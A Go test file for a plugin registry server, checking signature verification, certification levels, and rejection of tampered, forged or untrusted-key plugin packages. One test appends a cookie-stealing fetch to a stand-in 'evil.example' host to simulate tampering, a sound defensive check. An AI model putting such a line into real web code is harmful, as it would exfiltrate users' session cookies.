package server_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"

	"github.com/mmtoolkit/mmtoolkit/bundler/pluginpkg"
	"github.com/mmtoolkit/mmtoolkit/registry"
	"github.com/mmtoolkit/mmtoolkit/registry/registrytest"
	"github.com/mmtoolkit/mmtoolkit/server"
)

func seedKey(seed byte) ed25519.PrivateKey {
	return ed25519.NewKeyFromSeed(bytes.Repeat([]byte{seed}, ed25519.SeedSize))
}

func pubOf(k ed25519.PrivateKey) ed25519.PublicKey { return k.Public().(ed25519.PublicKey) }

// Keys of the tests: one per level, and one no level trusts.
var (
	officialKey  = seedKey(1)
	certifiedKey = seedKey(2)
	communityKey = seedKey(3)
	strangerKey  = seedKey(4)
)

func trustingConfig(min registry.Certification) server.Config {
	return server.Config{MinCertification: min, TrustedKeys: []server.TrustedKey{
		{Key: pubOf(officialKey), Level: registry.Official, Source: "official.pub"},
		{Key: pubOf(certifiedKey), Level: registry.Certified, Source: "certified.pub"},
		{Key: pubOf(communityKey), Level: registry.Community, Source: "community.pub"},
	}}
}

// signature signs files (as pushed) with key and returns plugin.sig.
func signature(t *testing.T, files map[string]string, key ed25519.PrivateKey) []byte {
	t.Helper()
	pkg, err := pluginpkg.ReadArchive(bytes.NewReader(archive(t, files)), pluginpkg.Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := pluginpkg.SignDigest(key, pkg.SHA256())
	if err != nil {
		t.Fatal(err)
	}
	return sig.Marshal()
}

// signed returns files with plugin.sig added.
func signed(t *testing.T, files map[string]string, key ed25519.PrivateKey) map[string]string {
	t.Helper()
	out := map[string]string{pluginpkg.SignatureFile: string(signature(t, files, key))}
	for k, v := range files {
		out[k] = v
	}
	return out
}

type versionInfo struct {
	Version       string `json:"version"`
	Certification string `json:"certification"`
	SignerKey     string `json:"signer_key"`
}

func pluginVersions(t *testing.T, e *env, id string) (summary string, versions []versionInfo) {
	t.Helper()
	r := e.do("bob", "GET", "/api/v1/plugins/"+id, "", nil)
	if r.status != 200 {
		t.Fatalf("GET plugin %s: %d %s", id, r.status, r.body)
	}
	var body struct {
		Plugin struct {
			Certification string `json:"certification"`
		} `json:"plugin"`
		Versions []versionInfo `json:"versions"`
	}
	if err := json.Unmarshal(r.body, &body); err != nil {
		t.Fatal(err)
	}
	return body.Plugin.Certification, body.Versions
}

// TestSignedPushEarnsItsKeysLevel: a package signed with a key trusted for
// a level is stored at that level, whichever way the signature travels
// (inside the archive, the header, a multipart field before or after the
// archive); an unsigned one is unverified. The catalogue shows the level.
func TestSignedPushEarnsItsKeysLevel(t *testing.T) {
	t.Parallel()
	e := newEnv(t, trustingConfig(registry.Unverified))
	for _, tc := range []struct {
		id   string
		key  ed25519.PrivateKey
		want string
	}{
		{"com.example.official", officialKey, "official"},
		{"com.example.certified", certifiedKey, "certified"},
		{"com.example.community", communityKey, "community"},
		{"com.example.unsigned", nil, "unverified"},
	} {
		files := helloPlugin(tc.id, "1.0.0")
		if tc.key != nil {
			files = signed(t, files, tc.key)
		}
		r := e.push("dev", files)
		if r.status != http.StatusCreated || r.json(t)["certification"] != tc.want {
			t.Fatalf("%s: %d %s", tc.id, r.status, r.body)
		}
		sum, versions := pluginVersions(t, e, tc.id)
		if sum != tc.want || len(versions) != 1 || versions[0].Certification != tc.want {
			t.Errorf("%s: catalogue says %s, versions %+v", tc.id, sum, versions)
		}
		if tc.key != nil && versions[0].SignerKey != pluginpkg.KeyFingerprint(pubOf(tc.key)) {
			t.Errorf("%s: signer %q", tc.id, versions[0].SignerKey)
		}
	}

	// Detached: in the header of a bare .tar.gz...
	files := helloPlugin("com.example.header", "1.0.0")
	sig := signature(t, files, certifiedKey)
	r := e.do("dev", "POST", "/api/v1/plugins", "application/gzip", bytes.NewReader(archive(t, files)),
		server.SignatureHeader, base64.StdEncoding.EncodeToString(sig))
	if r.status != http.StatusCreated || r.json(t)["certification"] != "certified" {
		t.Fatalf("header signature: %d %s", r.status, r.body)
	}
	// ...and as a multipart field, before or after the archive.
	for i, sigFirst := range []bool{true, false} {
		id := []string{"com.example.before", "com.example.after"}[i]
		files := helloPlugin(id, "1.0.0")
		sig := signature(t, files, communityKey)
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		writeSig := func() {
			fw, _ := mw.CreateFormFile("signature", "plugin.sig")
			fw.Write(sig)
		}
		if sigFirst {
			writeSig()
		}
		fw, _ := mw.CreateFormFile("plugin", id+".tar.gz")
		fw.Write(archive(t, files))
		if !sigFirst {
			writeSig()
		}
		mw.Close()
		r := e.do("dev", "POST", "/api/v1/plugins", mw.FormDataContentType(), &buf)
		if r.status != http.StatusCreated || r.json(t)["certification"] != "community" {
			t.Fatalf("multipart signature (first=%v): %d %s", sigFirst, r.status, r.body)
		}
	}

	// The catalogue lists every plugin with its level.
	var cat struct {
		Plugins []struct{ ID, Certification string }
	}
	if err := json.Unmarshal(e.do("bob", "GET", "/api/v1/plugins", "", nil).body, &cat); err != nil {
		t.Fatal(err)
	}
	levels := map[string]string{}
	for _, p := range cat.Plugins {
		levels[p.ID] = p.Certification
	}
	if levels["com.example.official"] != "official" || levels["com.example.unsigned"] != "unverified" || levels["com.example.header"] != "certified" {
		t.Errorf("catalogue levels: %v", levels)
	}
}

// nothingStored checks that a refused push left no trace.
func nothingStored(t *testing.T, e *env, id string) {
	t.Helper()
	if _, err := e.store.Plugin(context.Background(), id); err == nil {
		t.Errorf("%s was stored by a refused push", id)
	}
}

// TestTamperedPackageRejected: a file changed after signing fails the
// signature, whichever file it is; nothing is stored.
func TestTamperedPackageRejected(t *testing.T) {
	t.Parallel()
	e := newEnv(t, trustingConfig(registry.Unverified))
	files := signed(t, helloPlugin("com.example.tampered", "1.0.0"), certifiedKey)
	files["webapp/index.tsx"] += "\nfetch('https://evil.example/steal?c=' + document.cookie);\n"
	r := e.push("dev", files)
	if r.status != http.StatusUnprocessableEntity || r.errorCode(t) != "signature_mismatch" {
		t.Fatalf("tampered package: %d %s", r.status, r.body)
	}
	if !strings.Contains(string(r.body), "changed after signing") {
		t.Errorf("message does not say what happened: %s", r.body)
	}
	nothingStored(t, e, "com.example.tampered")

	// A file added after signing, too.
	files = signed(t, helloPlugin("com.example.added", "1.0.0"), certifiedKey)
	files["webapp/extra.js"] = "1"
	if r := e.push("dev", files); r.status != http.StatusUnprocessableEntity || r.errorCode(t) != "signature_mismatch" {
		t.Fatalf("added file: %d %s", r.status, r.body)
	}
	nothingStored(t, e, "com.example.added")

	// A signature file edited to name the tampered digest does not verify.
	files = helloPlugin("com.example.forged", "1.0.0")
	sig, _ := pluginpkg.ParseSignature(signature(t, files, certifiedKey))
	files["webapp/index.tsx"] += "\n// changed\n"
	pkg, _ := pluginpkg.ReadArchive(bytes.NewReader(archive(t, files)), pluginpkg.Limits{}, nil)
	forged := *sig
	forged.PackageSHA256 = pkg.SHA256()
	files[pluginpkg.SignatureFile] = string(forged.Marshal())
	if r := e.push("dev", files); r.status != http.StatusUnprocessableEntity || r.errorCode(t) != "signature_invalid" {
		t.Fatalf("forged signature: %d %s", r.status, r.body)
	}
	nothingStored(t, e, "com.example.forged")
}

// TestWrongKeyRejected: a valid signature by a key no level trusts is
// refused, not stored as unverified; the error names the key.
func TestWrongKeyRejected(t *testing.T) {
	t.Parallel()
	e := newEnv(t, trustingConfig(registry.Unverified))
	r := e.push("dev", signed(t, helloPlugin("com.example.stranger", "1.0.0"), strangerKey))
	if r.status != http.StatusForbidden || r.errorCode(t) != "signature_untrusted_key" {
		t.Fatalf("untrusted key: %d %s", r.status, r.body)
	}
	fp := pluginpkg.KeyFingerprint(pubOf(strangerKey))
	if e := r.json(t)["error"].(map[string]any); e["key"] != fp || !strings.Contains(e["message"].(string), fp) {
		t.Errorf("error does not name the key %s: %s", fp, r.body)
	}
	nothingStored(t, e, "com.example.stranger")

	// A server that trusts no key refuses every signature.
	bare := newEnv(t, server.Config{})
	if r := bare.push("dev", signed(t, helloPlugin("com.example.x", "1.0.0"), officialKey)); r.status != http.StatusForbidden || r.errorCode(t) != "signature_untrusted_key" {
		t.Fatalf("no trusted keys: %d %s", r.status, r.body)
	}
}

func TestMalformedAndConflictingSignatures(t *testing.T) {
	t.Parallel()
	e := newEnv(t, trustingConfig(registry.Unverified))
	files := helloPlugin("com.example.bad", "1.0.0")
	files[pluginpkg.SignatureFile] = `{"format":1}`
	if r := e.push("dev", files); r.status != http.StatusBadRequest || r.errorCode(t) != "signature_malformed" {
		t.Fatalf("malformed plugin.sig: %d %s", r.status, r.body)
	}
	files = helloPlugin("com.example.bad", "1.0.0")
	if r := e.do("dev", "POST", "/api/v1/plugins", "application/gzip", bytes.NewReader(archive(t, files)),
		server.SignatureHeader, "not base64!"); r.status != http.StatusBadRequest || r.errorCode(t) != "signature_malformed" {
		t.Fatalf("malformed header: %d %s", r.status, r.body)
	}
	// Two different signatures: inside by one key, beside by another.
	inside := signed(t, files, certifiedKey)
	other := signature(t, files, communityKey)
	if r := e.do("dev", "POST", "/api/v1/plugins", "application/gzip", bytes.NewReader(archive(t, inside)),
		server.SignatureHeader, base64.StdEncoding.EncodeToString(other)); r.status != http.StatusBadRequest || r.errorCode(t) != "signature_conflict" {
		t.Fatalf("conflicting signatures: %d %s", r.status, r.body)
	}
	nothingStored(t, e, "com.example.bad")
}

// TestSignedRepushRaisesLevel: the same content pushed unsigned, then
// signed, keeps its bundles and gains the level; signing with a lower key
// afterwards does not lower it.
func TestSignedRepushRaisesLevel(t *testing.T) {
	t.Parallel()
	e := newEnv(t, trustingConfig(registry.Unverified))
	files := helloPlugin("com.example.later", "1.0.0")
	first := e.push("dev", files)
	if first.status != http.StatusCreated || first.json(t)["certification"] != "unverified" {
		t.Fatalf("unsigned: %d %s", first.status, first.body)
	}
	r := e.push("dev", signed(t, files, certifiedKey))
	if r.status != http.StatusOK || r.json(t)["certified"] != true || r.json(t)["certification"] != "certified" {
		t.Fatalf("signed re-push: %d %s", r.status, r.body)
	}
	for _, kind := range []string{"web", "web_map", "mobile", "mobile_map"} {
		field := "sha256"
		if strings.HasSuffix(kind, "_map") {
			field = "url" // the first answer's maps were pending: no sha256 yet
		}
		a := r.json(t)["bundles"].(map[string]any)[kind].(map[string]any)[field]
		b := first.json(t)["bundles"].(map[string]any)[kind].(map[string]any)[field]
		if a != b || a == nil {
			t.Errorf("%s bundle changed: %v, was %v", kind, a, b)
		}
	}
	r = e.push("dev", signed(t, files, communityKey))
	if r.status != http.StatusOK || r.json(t)["certified"] == true || r.json(t)["certification"] != "certified" {
		t.Fatalf("lower re-push: %d %s", r.status, r.body)
	}
	entries, err := e.store.Audit(context.Background(), registry.AuditFilter{PluginID: "com.example.later"})
	if err != nil || len(entries) != 2 || entries[0].Action != registry.ActionCertify {
		t.Errorf("audit: %+v %v", entries, err)
	}
}

func manifestVersions(t *testing.T, e *env, user, team string) map[string]string {
	t.Helper()
	r := e.do(user, "GET", "/api/v1/manifest?team="+team+"&platform=web", "", nil)
	if r.status != 200 {
		t.Fatalf("manifest: %d %s", r.status, r.body)
	}
	var m struct {
		Plugins []struct{ ID, Version string }
	}
	json.Unmarshal(r.body, &m)
	out := map[string]string{}
	for _, p := range m.Plugins {
		out[p.ID] = p.Version
	}
	return out
}

func mobileVersions(t *testing.T, e *env, user, team string) map[string]string {
	t.Helper()
	r := e.do(user, "GET", "/api/v1/mobile/manifest?team="+team+"&platform=ios&runtime=1.0.0", "", nil)
	if r.status != 200 {
		t.Fatalf("mobile manifest: %d %s", r.status, r.body)
	}
	var m struct {
		Plugins []struct{ ID, Version string }
	}
	json.Unmarshal(r.body, &m)
	out := map[string]string{}
	for _, p := range m.Plugins {
		out[p.ID] = p.Version
	}
	return out
}

// TestMinCertificationEnforced: with a minimum level, enabling (or pinning)
// a version below it is refused with the levels named; manifests serve only
// versions that meet it, a team following the latest keeps the highest
// version that does, and a state enabled before the policy tightened is
// hidden rather than served.
func TestMinCertificationEnforced(t *testing.T) {
	t.Parallel()
	e := newEnv(t, trustingConfig(registry.Certified))
	set := func(id, body string) response {
		return e.do("alice", "PUT", "/api/v1/teams/engineering/plugins/"+id, "application/json", strings.NewReader(body))
	}

	// Community is below certified: enabling is refused.
	if r := e.push("dev", signed(t, helloPlugin("com.example.low", "1.0.0"), communityKey)); r.status != http.StatusCreated {
		t.Fatalf("push: %d %s", r.status, r.body)
	}
	r := set("com.example.low", `{"enabled":true}`)
	if r.status != http.StatusForbidden || r.errorCode(t) != "certification_too_low" {
		t.Fatalf("enable community under min certified: %d %s", r.status, r.body)
	}
	if d := r.json(t)["error"].(map[string]any); d["required"] != "certified" || d["certification"] != "community" || d["version"] != "1.0.0" {
		t.Errorf("error details: %s", r.body)
	}
	if r := set("com.example.low", `{"enabled":false}`); r.status != http.StatusOK {
		t.Errorf("disabling is always allowed: %d %s", r.status, r.body)
	}

	// Certified 1.0.0 enables; an unsigned 1.1.0 does not replace it for a
	// team following the latest, and cannot be pinned.
	if r := e.push("dev", signed(t, helloPlugin("com.example.ok", "1.0.0"), certifiedKey)); r.status != http.StatusCreated {
		t.Fatalf("push: %d %s", r.status, r.body)
	}
	if r := set("com.example.ok", `{"enabled":true}`); r.status != http.StatusOK {
		t.Fatalf("enable certified: %d %s", r.status, r.body)
	}
	if r := e.push("dev", helloPlugin("com.example.ok", "1.1.0")); r.status != http.StatusCreated || r.json(t)["certification"] != "unverified" {
		t.Fatalf("unsigned 1.1.0: %d %s", r.status, r.body)
	}
	if got := manifestVersions(t, e, "bob", "engineering"); got["com.example.ok"] != "1.0.0" || len(got) != 1 {
		t.Errorf("web manifest under min certified: %v", got)
	}
	if got := mobileVersions(t, e, "bob", "engineering"); got["com.example.ok"] != "1.0.0" || len(got) != 1 {
		t.Errorf("mobile manifest under min certified: %v", got)
	}
	if r := set("com.example.ok", `{"enabled":true,"version":"1.1.0"}`); r.status != http.StatusForbidden || r.errorCode(t) != "certification_too_low" {
		t.Fatalf("pin unverified 1.1.0: %d %s", r.status, r.body)
	}
	// Official meets certified.
	if r := e.push("dev", signed(t, helloPlugin("com.example.ok", "1.2.0"), officialKey)); r.status != http.StatusCreated {
		t.Fatalf("push official: %d %s", r.status, r.body)
	}
	if got := manifestVersions(t, e, "bob", "engineering"); got["com.example.ok"] != "1.2.0" {
		t.Errorf("official 1.2.0 not served: %v", got)
	}
	// The team listing says what the manifest serves, not the raw latest.
	if err := e.push("dev", helloPlugin("com.example.ok", "1.3.0")); err.status != http.StatusCreated {
		t.Fatalf("unsigned 1.3.0: %d", err.status)
	}
	if got := effectiveVersions(t, e, "bob", "engineering"); got["com.example.ok"] != "1.2.0" || got["com.example.low"] != "" {
		t.Errorf("effective versions under min certified: %v", got)
	}

	// States set before the policy (written straight to the store) are
	// hidden from the manifests: a pinned low version, a plugin with no
	// version at the level.
	ctx := context.Background()
	for _, st := range []registry.TeamState{
		{TeamID: e.teams["engineering"], PluginID: "com.example.low", Enabled: true, UpdatedBy: "old"},
		{TeamID: e.teams["engineering"], PluginID: "com.example.ok", Enabled: true, Version: "1.1.0", UpdatedBy: "old"},
	} {
		if _, err := e.store.SetTeamState(ctx, st); err != nil {
			t.Fatal(err)
		}
	}
	if r := set("com.example.low", `{"enabled":true}`); r.status != http.StatusForbidden {
		t.Fatalf("re-enable low: %d", r.status)
	}
	// Any change through the server invalidates the cached manifests.
	if r := e.do("admin", "PUT", "/api/v1/teams/sales/plugins/com.example.low", "application/json", strings.NewReader(`{"enabled":false}`)); r.status != http.StatusOK {
		t.Fatalf("disable in sales: %d %s", r.status, r.body)
	}
	if got := manifestVersions(t, e, "bob", "engineering"); len(got) != 0 {
		t.Errorf("manifest serves versions below the minimum: %v", got)
	}
	if got := effectiveVersions(t, e, "bob", "engineering"); got["com.example.ok"] != "" || got["com.example.low"] != "" {
		t.Errorf("the listing reports versions below the minimum as served: %v", got)
	}
	if got := mobileVersions(t, e, "bob", "engineering"); len(got) != 0 {
		t.Errorf("mobile manifest serves versions below the minimum: %v", got)
	}

	// Without a minimum, the same states are served.
	open := newEnv(t, trustingConfig(registry.Unverified))
	if r := open.push("dev", helloPlugin("com.example.any", "1.0.0")); r.status != http.StatusCreated {
		t.Fatal(r.status)
	}
	if r := open.do("alice", "PUT", "/api/v1/teams/engineering/plugins/com.example.any", "application/json", strings.NewReader(`{"enabled":true}`)); r.status != http.StatusOK {
		t.Fatalf("no minimum: %d %s", r.status, r.body)
	}
	if got := manifestVersions(t, open, "bob", "engineering"); got["com.example.any"] != "1.0.0" {
		t.Errorf("no minimum: %v", got)
	}
}

// TestPreinstalledPluginsAreOfficial: the reference plugins the binary
// carries are official without a signature, and a version an older binary
// stored as unverified is raised.
func TestPreinstalledPluginsAreOfficial(t *testing.T) {
	t.Parallel()
	e := newEnv(t, server.Config{MinCertification: registry.Official})
	ctx := context.Background()
	if r := e.push("admin", helloPlugin("mmtoolkit.old", "1.0.0")); r.status != http.StatusCreated {
		t.Fatalf("push: %d %s", r.status, r.body)
	}
	pkgs := []*pluginpkg.Package{builtin(t, "mmtoolkit.new", "1.0.0"), builtin(t, "mmtoolkit.old", "1.0.0")}
	if _, err := e.srv.Preinstall(ctx, pkgs, []string{e.teams["engineering"]}); err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"mmtoolkit.new", "mmtoolkit.old"} {
		v, err := e.store.Version(ctx, id, "1.0.0")
		if err != nil || v.Certification != registry.Official || v.SignerKey != server.BuiltinSigner {
			t.Errorf("%s: %+v %v", id, v, err)
		}
	}
	if got := manifestVersions(t, e, "bob", "engineering"); got["mmtoolkit.new"] != "1.0.0" {
		t.Errorf("official built-in under min official: %v", got)
	}
}

// TestTrustConfigRejectsAmbiguity: a key trusted for two levels, or for
// "unverified", is a configuration error, not a silent choice.
func TestTrustConfigRejectsAmbiguity(t *testing.T) {
	t.Parallel()
	store := registrytest.Open(t)
	for name, keys := range map[string][]server.TrustedKey{
		"two levels": {
			{Key: pubOf(officialKey), Level: registry.Official, Source: "a.pub"},
			{Key: pubOf(officialKey), Level: registry.Community, Source: "b.pub"},
		},
		"unverified": {{Key: pubOf(officialKey), Level: registry.Unverified, Source: "a.pub"}},
		"short key":  {{Key: pubOf(officialKey)[:8], Level: registry.Official, Source: "a.pub"}},
	} {
		srv, err := server.New(store, nil, server.Config{TrustedKeys: keys})
		if err == nil {
			srv.Close()
			t.Errorf("%s: accepted", name)
		}
	}
}

// effectiveVersions is each plugin's effective_version in the team listing.
func effectiveVersions(t *testing.T, e *env, user, team string) map[string]string {
	t.Helper()
	r := e.do(user, "GET", "/api/v1/teams/"+team+"/plugins", "", nil)
	if r.status != http.StatusOK {
		t.Fatalf("team listing: %d %s", r.status, r.body)
	}
	var body struct {
		Plugins []struct {
			ID        string `json:"id"`
			Effective string `json:"effective_version"`
		} `json:"plugins"`
	}
	if err := json.Unmarshal(r.body, &body); err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, p := range body.Plugins {
		out[p.ID] = p.Effective
	}
	return out
}
